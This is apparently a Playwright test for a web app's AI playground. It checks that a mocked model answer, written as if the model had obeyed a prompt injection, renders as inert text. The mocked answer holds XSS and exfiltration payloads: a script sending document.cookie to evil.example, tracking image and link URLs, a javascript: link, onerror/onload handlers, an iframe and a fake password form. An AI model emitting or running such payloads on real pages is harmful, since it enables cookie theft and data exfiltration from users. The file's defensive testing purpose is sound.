import { expect } from '@playwright/test'
import { openAi, sent } from '../../test/interaction.ts'
import { answerNext } from '../conformance/answers.ts'
import { AcademyProcess } from '../support/academy-process.ts'
import { signInToDemo } from '../support/steps.ts'
import { test } from '../support/test.ts'

// A model that follows an attack, in a real browser: its output is displayed and has no effect.

const away = 'https://evil.example'
const obeyed = [
  `![chart](${away}/p.png?d=what+I+asked) ![map][m]`,
  `[m]: ${away}/map.png`,
  `[Help](${away}/?q=what+I+asked) <${away}/auto> [coins](javascript:window.pwned=1)`,
  `<script>window.pwned=1;fetch('${away}/' + document.cookie)</script><img src=x onerror=window.pwned=1>`,
  `</div></section><iframe src="${away}"></iframe><form action="${away}"><input name="password"></form>`,
  `<style>@import url(${away}/s.css); body { display: none }</style><svg onload=window.pwned=1>`,
].join('\n\n')

const answer = {
  sendPrompt: sent({ ...openAi, id: 'obeyed', prompt: 'Tell me about tides', response: `Sure.\n\n${obeyed}` }),
}

let academy: AcademyProcess
test.beforeAll(async () => {
  academy = await AcademyProcess.start()
})
test.afterAll(async () => {
  expect(await academy.stop()).toBe(0)
})

test('an answer full of images, links and scripts contacts no other host and runs nothing', async ({ page }) => {
  const happened: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(academy.url) && !/^(data|blob):/.test(request.url())) happened.push(`asked ${request.url()}`)
  })
  page.on('dialog', (dialog) => {
    happened.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  await signInToDemo(page, academy.url, 'anybody')
  await page.goto(`${academy.url}/playground`)
  await answerNext(page, 'SendPrompt', answer)
  await page.getByRole('textbox', { name: /Your prompt/ }).fill('Tell me about tides')
  await page.getByRole('button', { name: 'Send', exact: true }).click()
  const shown = page.locator('[data-answer=whole]')
  await expect(shown).toContainText('Sure.')
  await expect(shown).toContainText('onerror=window.pwned=1')
  await expect(shown.locator('a, img, script, style, iframe, form, input, svg, object')).toHaveCount(0)
  await page.waitForLoadState('networkidle')
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect(happened).toEqual([])
})
